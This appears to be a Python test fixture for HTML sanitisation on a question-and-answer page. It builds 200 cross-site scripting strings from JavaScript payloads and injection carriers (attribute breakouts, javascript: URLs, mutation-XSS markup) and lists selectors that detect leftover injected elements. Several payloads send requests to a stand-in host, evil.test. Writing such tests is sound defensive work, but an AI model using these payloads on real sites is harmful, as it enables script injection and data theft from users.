"""200 strings that would run, fetch or leave, if anything took them for more than text."""

PAYLOADS = (
    "alert(1)",
    "window.hit=1",
    "document.title='hit'",
    "fetch('//evil.test/f')",
    "new Image().src='//evil.test/i'",
    "location='//evil.test/l'",
    "navigator.sendBeacon('//evil.test/b')",
    "import('//evil.test/m.js')",
    "new WebSocket('ws://evil.test/w')",
    "document.cookie='hit=1'",
)
"""What each would do; a test can see every one of them."""

CARRIERS = (
    "<script>{}</script>",
    '"><script>{}</script>',  # out of an attribute
    "</style></title></textarea><script>{}</script>",  # out of where tags do not count
    '<img src=x onerror="{}">',
    "</bdi></blockquote></section><img src=x onerror={}>",  # out of our own markup
    '<svg onload="{}">',
    "<svg><script>{}</script></svg>",
    '<svg><animate onbegin="{}" attributeName=x dur=1s>',
    '<iframe srcdoc="<script>{}</script>"></iframe>',
    '<iframe src="javascript:{}"></iframe>',
    '<a href="javascript:{}">点此</a>',
    '<details open ontoggle="{}"><summary>展开</summary></details>',
    '<input autofocus onfocus="{}">',
    '<video><source onerror="{}"></video>',
    '<math><mtext><style><img src=x onerror="{}"></style></mtext></math>',  # mutates when parsed
    '<noscript><p title="</noscript><img src=x onerror={}>">',
    '<form action="javascript:{}"><button>提交</button></form>',
    '<object data="javascript:{}"></object>',
    "[点此](javascript:{})",  # Markdown's own
    '![图](x"onerror="{})',
)
"""Where it hides."""

STRINGS = tuple(carrier.format(payload) for carrier in CARRIERS for payload in PAYLOADS)

TRACES = (
    "[onerror], [onload], [onbegin], [ontoggle], [onfocus], iframe, object, embed, video, math, "
    "form[action], base, meta[http-equiv], noscript p, [src*='evil'], [href*='evil'], "
    "a[href^='javascript'], img[src='x'], .pd-answer script, .pd-question script"
)
"""Elements that only one of the strings could have made."""
